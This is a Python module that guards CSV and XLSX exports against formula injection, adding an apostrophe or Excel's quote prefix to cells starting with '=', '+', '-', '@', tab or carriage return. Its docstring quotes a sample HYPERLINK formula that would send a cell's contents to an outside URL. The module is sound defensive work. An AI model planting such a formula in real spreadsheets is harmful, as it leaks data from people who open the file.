"""Spreadsheet cells that hold people's text as text, never as a formula.

A company can name a need ``=HYPERLINK("http://…?q="&B6,"Kliknij")``; a
spreadsheet that opens our CSV or XLSX must show those characters, not run
them (CSV/formula injection, OWASP). Text starting with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return is what Excel, LibreOffice and Google
Sheets may read as a formula. Numbers and dates are written as they are.

* CSV has no types: such text gets a leading apostrophe, the mark every
  spreadsheet reads as "this is text" (and the apostrophe shows, so a reader
  sees that the cell was neutralised).
* XLSX has types: such text is stored as a string cell with Excel's
  "quote prefix", so the cell shows exactly what was typed and stays text
  even when someone edits it.
"""

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def could_be_formula(value) -> bool:
    """Text a spreadsheet might take for a formula."""
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def csv_cell(value):
    """``value`` as a CSV cell no spreadsheet runs: risky text gets an apostrophe in front."""
    return f"'{value}" if could_be_formula(value) else value


def append_row(sheet, values) -> None:
    """Append ``values`` to an openpyxl ``sheet`` as its next row, risky text kept as text.

    openpyxl turns a string starting with "=" into a formula; the cell's type
    is set back to string and marked with the quote prefix.
    """
    sheet.append(list(values))
    for cell in sheet[sheet.max_row]:
        if could_be_formula(cell.value):
            cell.data_type = "s"
            cell.quotePrefix = True
